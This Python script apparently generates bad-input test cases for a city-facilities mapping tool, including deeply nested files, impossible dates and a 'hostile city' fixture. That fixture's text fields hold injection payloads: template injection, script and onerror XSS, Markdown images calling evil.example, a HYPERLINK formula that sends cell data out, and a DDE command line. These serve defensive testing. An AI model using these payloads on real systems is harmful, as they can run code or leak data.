"""Write the bad-input corpus cases that are not about importing (`python tests/data/bad/make_cases.py`).

Each case is a folder holding ``case.toml`` (the command, its expected exit code and the words its message
must contain; see tests/test_bad_input.py) and ``input/``. The files are committed; this script says how
their bytes were made. Importer cases (``import_*``) come from make_import_cases.py.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

HERE = Path(__file__).resolve().parent

CITY_TOML = """name = "{name}"
name_en = "{name_en}"
zoom = 14

[center]
lon = 112.10
lat = 32.00

[bounds]
west = 112.05
south = 31.95
east = 112.15
north = 32.05
"""

#: what hostile text looks like: templates, markup, Markdown, spreadsheet formulas
PAYLOADS = [
    "{{ 7*7 }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{{ 'unbalanced",
    "{# comment",
    "<script>window.__pwned = 1</script>",
    '<img src="http://evil.example/x.png" onerror="window.__pwned = 1">',
    "![img](http://evil.example/md.png)",
    "[link](http://evil.example/)",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "$\\\\LaTeX$ :red[colour] :material/warning:",
]


def _fc(features: list[dict]) -> str:
    return json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False, indent=1) + "\n"


def _point(props: dict, lon: float, lat: float) -> dict:
    return {"type": "Feature", "properties": props, "geometry": {"type": "Point", "coordinates": [lon, lat]}}


def hostile_city(folder: Path) -> None:
    """A valid city whose every text field holds a payload: names, units, districts, rule titles, city name."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "city.toml").write_text(
        CITY_TOML.format(
            name="恶意{{ 7*7 }}![x](http://evil.example/t.png)", name_en="<img src=x onerror=alert(1)>[x](http://evil.example/)"
        ),
        encoding="utf-8",
    )
    toilets, attractions = [], []
    for i, p in enumerate(PAYLOADS):
        toilets.append(_point({"id": f"T{i:02d}", "name": p, "name_en": p, "grade": "A", "status": "existing", "unit": p,
                               "district": PAYLOADS[0], "opening_hours": p}, 112.06 + i * 0.006, 31.96))  # fmt: skip
        attractions.append(_point({"id": f"A{i:02d}", "name": p, "name_en": p, "kind": "scenic_spot", "status": "existing",
                                   "unit": p, "district": PAYLOADS[0]}, 112.06 + i * 0.006, 32.04))  # fmt: skip
    (folder / "toilets.geojson").write_text(_fc(toilets), encoding="utf-8")
    (folder / "attractions.geojson").write_text(_fc(attractions), encoding="utf-8")
    ring = [[112.05, 31.95], [112.15, 31.95], [112.15, 32.05], [112.05, 32.05], [112.05, 31.95]]
    zone = {"type": "Feature", "properties": {"id": "D1", "name": PAYLOADS[0], "name_en": PAYLOADS[6], "zone_type": "district",
            "status": "existing", "unit": PAYLOADS[8]}, "geometry": {"type": "Polygon", "coordinates": [ring]}}  # fmt: skip
    (folder / "zones.geojson").write_text(_fc([zone]), encoding="utf-8")
    title = json.dumps(PAYLOADS[0] + PAYLOADS[5] + PAYLOADS[8], ensure_ascii=False)
    (folder / "rules.toml").write_text(
        f"""[[rule]]
id = "toilet_reach"
title_zh = {title}
title_en = {json.dumps(PAYLOADS[8] + PAYLOADS[1] + PAYLOADS[6], ensure_ascii=False)}
kind = "reach"
weight = 100
source = {json.dumps(PAYLOADS[2] + PAYLOADS[9], ensure_ascii=False)}
target = {{ layer = "attractions" }}
facility = {{ layer = "toilets" }}
distance_m = 500
""",
        encoding="utf-8",
    )


def mini_city(folder: Path, rules: str | None = None) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "city.toml").write_text(CITY_TOML.format(name="小城", name_en="Mini"), encoding="utf-8")
    toilet = _point({"id": "T1", "name": "厕所", "grade": "A", "status": "existing"}, 112.1, 32.0)
    (folder / "toilets.geojson").write_text(_fc([toilet]), encoding="utf-8")
    if rules is not None:
        (folder / "rules.toml").write_text(rules, encoding="utf-8")


REACH = """[[rule]]
id = "toilet_reach"
title_zh = "厕所可达"
title_en = "Toilet reach"
kind = "reach"
weight = 100
source = "test"
target = {{ layer = "toilets" }}
facility = {{ layer = "toilets", where = {where} }}
distance_m = 500
"""


def case(name: str, toml: str, make) -> None:
    folder = HERE / name
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    (folder / "case.toml").write_text(toml, encoding="utf-8")
    make(folder / "input")


def main() -> None:
    depth = 5000  # Python's json and tomllib give up (RecursionError) past about 1000 levels
    case(
        "validate_deep_json",
        'description = "a GeoJSON file nested thousands of levels deep (RecursionError in json)"\n'
        'args = ["validate", "{input}"]\nexit = 1\nexpect = ["toilets.geojson", "nested too deeply"]\n',
        lambda d: (mini_city(d), (d / "toilets.geojson").write_text(
            '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":'
            + "[" * depth + "]" * depth + "}}]}\n", encoding="utf-8")),
    )  # fmt: skip
    case(
        "validate_deep_toml",
        'description = "a city.toml nested thousands of levels deep (RecursionError in tomllib)"\n'
        'args = ["validate", "{input}"]\nexit = 1\nexpect = ["city.toml", "nested too deeply"]\n',
        lambda d: (mini_city(d), (d / "city.toml").write_text("name = " + "[" * depth + "]" * depth + "\n", encoding="utf-8")),
    )
    case(
        "check_deep_rules",
        'description = "a rules file nested thousands of levels deep"\n'
        'args = ["check", "{input}", "--quiet"]\nexit = 2\nexpect = ["rules.toml", "nested too deeply"]\n',
        lambda d: mini_city(d, "x = " + "[" * depth + "]" * depth + "\n"),
    )
    for cmd, extra in (("check", ', "--quiet"'), ("map", ', "--out", "{out}/map.html"')):
        case(
            f"{cmd}_impossible_as_of",
            f'description = "{cmd} --as-of with a day that does not exist"\n'
            f'args = ["{cmd}", "{{input}}", "--as-of", "2026-13-45"{extra}]\nexit = 2\n'
            'expect = ["--as-of", "2026-13-45", "YYYY-MM-DD"]\n',
            lambda d: mini_city(d, REACH.format(where="{}")),
        )
        case(
            f"{cmd}_impossible_as_of_setting",
            f'description = "{cmd} with FACILITIES_AS_OF set to a day that does not exist"\n'
            f'args = ["{cmd}", "{{input}}"{extra}]\nexit = 2\nexpect = ["FACILITIES_AS_OF", "2026-02-30", "YYYY-MM-DD"]\n'
            'env = { FACILITIES_AS_OF = "2026-02-30" }\n',
            lambda d: mini_city(d, REACH.format(where="{}")),
        )
    case(
        "rules_filter_unknown_field",
        'description = "a rules filter on fields the layer does not have: errors with did you mean, not silently ignored"\n'
        'args = ["check", "{input}", "--quiet"]\nexit = 2\n'
        'expect = ["rules.toml", "toilet_reach", "facility.where.grde", \'did you mean "grade"\', "facility.where.colour"]\n',
        lambda d: mini_city(d, REACH.format(where='{ grde = ["A"], colour = ["A"] }')),
    )
    for cmd, args, code, expect in (
        ("validate", '"validate", "{input}"', 0, '"valid 有效"'),
        ("check", '"check", "{input}", "--quiet", "--out", "{out}"', 1, '"wrote"'),
        ("map", '"map", "{input}", "--out", "{out}/map.html"', 0, '"wrote"'),
    ):
        case(
            f"hostile_text_{cmd}",
            f'description = "templates, markup, Markdown and formulas in every text field: {cmd} treats them as text"\n'
            f"args = [{args}]\nexit = {code}\nexpect = [{expect}]\n",
            hostile_city,
        )


if __name__ == "__main__":
    main()
